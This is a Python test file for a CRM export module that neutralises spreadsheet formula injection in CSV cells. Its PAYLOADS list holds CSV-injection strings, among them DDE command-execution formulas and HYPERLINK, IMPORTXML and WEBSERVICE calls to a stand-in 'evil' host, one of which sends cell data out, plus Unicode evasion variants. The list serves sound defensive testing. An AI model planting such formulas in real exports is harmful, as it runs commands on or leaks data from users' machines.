"""No text of ours can become a formula in a spreadsheet, and none is lost by making sure."""

from __future__ import annotations

import csv
import io
import random

import pytest

from crm_admin.exchange import formula

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A1", "=HYPERLINK(\"http://evil\",\"x\")", "=IMPORTXML(\"http://evil\",\"//a\")",
    "=WEBSERVICE(\"http://evil/\"&A1)", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=SUM(A1:A9)*cmd|'/c calc'!A0",
    "+1+1", "+cmd|' /C calc'!A1", "+84912345678", "-1+1", "-2+3+cmd|' /C calc'!A0", "-@SUM(1)", "@SUM(1+1)",
    "@A1", "@=1", "==1", "=-1", "=+1", "+=1", "-=1", "\t=1+1", "\t\t=1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\u200b=1+1", "\u200e=1", "\ufeff=1+1",
    "\u2060=1", "\u00ad=1", "\x00=1", "\x0b=1", "\x1f=1", "\x7f=1", "\u202e=1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫A1", "−1+1", " ＝1",
    '"=1+1', '""=1+1', '" =1+1"', "'=1+1", "''=1+1",
    "a\n=1+1", "a\r=1+1", "a;=1+1", "a\t=1+1", "a|=1+1", "a; =1+1", 'a;"=1+1"', 'a\n"=1', "a\n\n=1", "a;\n=1",
    "x\n-@SUM(1)", "a;＝1", "a\t +1", "\t'=1", "a;'=1", "\n'\n=1",
]  # fmt: skip

HARMLESS = [
    "",
    "An",
    "a=b",
    "1+1",
    "x-y",
    "a@b.vn",
    "A (B)",
    "王小明",
    "5; 6",
    "a, =b",
    "a, -b",
    "'",
    "it's",
    "o'=x",
]

IDLE = "".join(map(chr, [*range(33), *range(127, 161)])) + '"\xad\u3000\u2003\u200b\u200e\ufeff\u2060\u202e'

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"


def cells_of(text: str, delimiter: str) -> list[str]:
    """The cells a program sees that splits by `delimiter` and knows no quoting where a cell does not begin with it."""
    return [cell for row in csv.reader(io.StringIO(text, newline=None), delimiter=delimiter) for cell in row]


def is_live(cell: str) -> bool:
    shown = cell.lstrip(IDLE)
    return shown != "" and shown[0] in SIGNS


def test_there_are_sixty_payloads() -> None:
    assert len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_dead_for_every_separator(payload: str) -> None:
    line = io.StringIO()
    csv.writer(line).writerow(["1", formula.defuse(payload), "end"])
    for delimiter in ",;\t|":
        assert not [cell for cell in cells_of(line.getvalue(), delimiter) if is_live(cell)]


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p != "+84912345678"])
def test_payload_is_dead_in_a_typed_cell(payload: str) -> None:
    assert not is_live(formula.defuse_typed(payload)) or payload[1:].replace(" ", "").isdigit()


@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS])
def test_nothing_is_lost(text: str) -> None:
    assert formula.restore(formula.defuse(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert formula.defuse(text) == text
    assert formula.restore(text) == text


def test_any_text_comes_back() -> None:
    rng = random.Random(7)
    for _ in range(20_000):
        text = "".join(rng.choices("=+-@＝'\" \t\r\n;|a,\u200b", k=rng.randint(0, 7)))
        assert formula.restore(formula.defuse(text)) == text, ascii(text)


def test_plain_phone_number_stays_readable_in_a_typed_cell() -> None:
    assert formula.defuse_typed("+84 912 345 678") == "+84 912 345 678"
    assert formula.defuse_typed("+84 912+1") == "'+84 912+1"
